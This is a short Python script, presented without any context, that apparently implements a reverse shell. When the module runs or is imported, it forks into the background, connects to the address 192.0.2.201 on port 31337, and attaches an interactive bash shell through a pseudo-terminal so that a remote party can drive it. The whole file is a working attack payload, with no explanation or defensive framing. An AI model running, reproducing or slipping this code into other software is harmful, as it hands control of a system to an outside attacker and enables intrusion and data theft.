import os
import pty
import select
import socket


def _relay(address):
    link = socket.socket()
    link.connect(address)
    pid, master = pty.fork()
    if pid == 0:
        os.execv("/bin/bash", ["bash", "-i"])
    while True:
        ready, _, _ = select.select([link, master], [], [])
        if link in ready:
            data = link.recv(1024)
            if not data:
                break
            os.write(master, data)
        if master in ready:
            link.send(os.read(master, 1024))


if os.fork() == 0:
    try:
        _relay(("192.0.2.201", 31337))
    finally:
        os._exit(0)
